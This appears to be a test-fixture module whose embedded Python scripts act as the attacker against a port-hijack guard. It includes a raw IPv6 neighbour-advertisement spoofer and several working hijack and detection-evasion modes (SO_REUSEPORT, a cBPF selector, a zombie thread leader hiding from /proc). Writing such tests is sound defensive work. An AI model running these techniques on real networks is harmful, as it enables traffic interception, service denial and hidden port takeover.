/** Small python3 programs that play the attacker in the guard's hijack tests (real sockets, raw frames). */

/**
 * Unsolicited neighbour advertisements (override flag set) from interface argv[1], claiming IPv6
 * address argv[2] for the interface's own MAC, argv[3] times: what a spoofer sends to take a
 * neighbour's traffic.
 */
export const SPOOFED_NA_PY = String.raw`
import socket, struct, sys, time
iface, target, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
mac = bytes.fromhex(open('/sys/class/net/%s/address' % iface).read().strip().replace(':', ''))
src = socket.inet_pton(socket.AF_INET6, target)
dst = socket.inet_pton(socket.AF_INET6, 'ff02::1')
na = struct.pack('!BBHI', 136, 0, 0, 0x20000000) + src + struct.pack('!BB', 2, 1) + mac
pseudo = src + dst + struct.pack('!I', len(na)) + b'\x00\x00\x00\x3a'
data = pseudo + na
s = sum((data[i] << 8) + data[i + 1] for i in range(0, len(data), 2))
while s > 0xffff:
    s = (s & 0xffff) + (s >> 16)
na = na[:2] + struct.pack('!H', ~s & 0xffff) + na[4:]
ip6 = struct.pack('!IHBB', 0x60000000, len(na), 58, 255) + src + dst
frame = b'\x33\x33\x00\x00\x00\x01' + mac + b'\x86\xdd' + ip6 + na
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sock.bind((iface, 0))
for _ in range(count):
    sock.send(frame)
    time.sleep(0.2)
`;

/**
 * The hijacks the first guard missed, one mode each; prints "ready" once in place, then serves
 * (a TCP connection or a datagram gets the name back) or holds. argv: mode name family address port [peer port].
 * - `udp-connected`: SO_REUSEADDR, bind, connect() to one peer: takes all of that peer's datagrams.
 * - `udp-reuseaddr`: a UDP service that allows SO_REUSEADDR sharing, as many do.
 * - `bound-only`: a TCP socket bound and never listening: the service then gets EADDRINUSE.
 * - `timed`: SO_REUSEPORT, listen, then connect(AF_UNSPEC) back to CLOSE: bound between polls,
 *   ready to listen again when the daemon is not looking.
 * - `cbpf`: SO_REUSEPORT, listen, then a reuseport BPF program (SO_ATTACH_REUSEPORT_CBPF) that
 *   picks the group's socket by the low bit of the first halfword it is handed: the TCP stack
 *   hands it the TCP header (the client's source port), nft's socket lookup other bytes, so the
 *   two choose differently.
 * - `zombie-leader`: listens in a thread, then the main thread exits alone (SYS_exit): the
 *   thread-group leader is a zombie and its /proc/<pid>/fd is empty.
 */
export const ATTACKER_PY = String.raw`
import ctypes, socket, struct, sys, threading, time
mode, name, family, address, port = sys.argv[1:6]
fam = socket.AF_INET6 if family == '6' else socket.AF_INET
port = int(port)
libc = ctypes.CDLL(None, use_errno=True)

def serve_tcp(s):
    while True:
        c, _ = s.accept()
        c.sendall(name.encode())
        c.close()

def serve_udp(s):
    while True:
        _, peer = s.recvfrom(2048)
        s.sendto(name.encode(), peer)

if mode in ('udp-connected', 'udp-reuseaddr'):
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((address, port))
    if mode == 'udp-connected':
        s.connect((sys.argv[6], int(sys.argv[7])))
    print('ready', flush=True)
    serve_udp(s)
elif mode == 'bound-only':
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.bind((address, port))
    print('ready', flush=True)
    time.sleep(600)
elif mode == 'timed':
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind((address, port))
    s.listen(16)
    unspec = struct.pack('H14x', socket.AF_UNSPEC)
    if libc.connect(s.fileno(), unspec, len(unspec)) != 0:
        raise OSError(ctypes.get_errno(), 'connect(AF_UNSPEC)')
    print('ready', flush=True)
    time.sleep(600)
elif mode == 'cbpf':
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind((address, port))
    s.listen(128)
    # ld rand (SKF_AD_RANDOM); and #1; ret a: a fresh coin for every lookup, so nft and TCP disagree
    insns = [(0x20, 0, 0, 0xfffff038), (0x54, 0, 0, 1), (0x16, 0, 0, 0)]
    prog = ctypes.create_string_buffer(b''.join(struct.pack('HBBI', *i) for i in insns))
    fprog = struct.pack('HxxxxxxQ', len(insns), ctypes.addressof(prog))
    s.setsockopt(socket.SOL_SOCKET, 51, fprog)
    print('ready', flush=True)
    serve_tcp(s)
elif mode == 'zombie-leader':
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.bind((address, port))
    s.listen(16)
    threading.Thread(target=serve_tcp, args=(s,), daemon=False).start()
    print('ready', flush=True)
    libc.syscall(60, 0)
else:
    raise SystemExit('unknown mode ' + mode)
`;

/** Sends one datagram to argv[1]:argv[2] from local port argv[3]; prints the answer, or "timeout". */
export const UDP_ASK_PY = String.raw`
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(('0.0.0.0', int(sys.argv[3])))
s.settimeout(2)
s.sendto(b'who', (sys.argv[1], int(sys.argv[2])))
try:
    print(s.recv(64).decode())
except socket.timeout:
    print('timeout')
`;
